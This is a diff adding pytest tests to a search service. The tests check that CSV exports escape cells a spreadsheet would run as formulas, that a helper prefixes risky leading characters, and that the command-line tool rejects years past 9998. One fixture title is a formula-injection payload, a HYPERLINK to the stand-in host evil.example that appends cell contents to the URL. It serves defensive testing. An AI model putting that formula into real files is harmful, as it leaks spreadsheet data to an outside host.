@@ -144,6 +144,39 @@ def test_export_csv_streams_every_match_with_provenance(client):
     assert rows[0]["body"].startswith("Hostile body <img")
 
 
+HOSTILE_CSV_POST = {"id": "@syn-formula", "title": '=HYPERLINK("http://evil.example/?"&A1,"x")',
+                    "date": "2019-05-01", "author": "+Mallory Fictional", "url": "https://example.org/fictional?=1",
+                    "body": "-2 degrees, a synthetic body.\n=SUM(A1:A9)"}
+
+
+def test_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(tmp_path, client_for):
+    posts = tmp_path / "p.jsonl"
+    posts.write_text(json.dumps(HOSTILE_CSV_POST) + "\n", encoding="utf-8")
+    assert Searchsvc(tmp_path / "index")("ingest", posts).exit_code == 0
+    client = client_for(tmp_path / "index")
+    text = client.get("/api/export?format=csv").get_data(as_text=True)
+    assert list(csv.reader(io.StringIO(text[1:]))) == [
+        ["id", "title", "date", "author", "url", "score", "body"],
+        ["'@syn-formula", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "2019-05-01", "'+Mallory Fictional",
+         "https://example.org/fictional?=1", "", "'-2 degrees, a synthetic body.\n=SUM(A1:A9)"],
+    ]
+    # JSON Lines is data for programs, not spreadsheets: it stays exactly as ingested.
+    [line] = client.get("/api/export?format=jsonl").get_data(as_text=True).splitlines()
+    assert json.loads(line) == {**HOSTILE_CSV_POST, "score": None}
+
+
+@pytest.mark.parametrize("cell, written", [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+    ("x=1", "x=1"), ("'=1", "'=1"), ("", ""),
+])
+def test_spreadsheet_safe_follows_owasp(cell, written):
+    """Tab and carriage return cannot start a stored title, author, body, url or id (ingest strips
+    them), so they are checked here directly."""
+    from searchsvc.web.exports import spreadsheet_safe
+
+    assert spreadsheet_safe(cell) == written
+
+
 def test_export_jsonl_has_no_page_limit_and_reingests(client, tmp_path):
     response = client.get("/api/export?format=jsonl")
     lines = response.get_data(as_text=True).splitlines()
@@ -191,6 +224,13 @@ def test_cli_search_text_and_errors(search_index):
     assert bad.exit_code == 1
     assert bad.stderr == "Error: 'from': invalid date '2021-13-45': month must be in 1..12\n"
     assert runner("search", '"open').stderr == 'Error: the query has an opening " without a closing one\n'
+
+
+@pytest.mark.parametrize("option, value", [("--to", "9999"), ("--to", "9999-12-31"), ("--from", "9999")])
+def test_cli_search_refuses_years_past_9998(search_index, option, value):
+    result = Searchsvc(search_index)("search", option, value)
+    assert result.exit_code == 1
+    assert result.stderr == f"Error: '{option[2:]}': invalid date '{value}': the latest year allowed is 9998\n"
 
 
 # serve
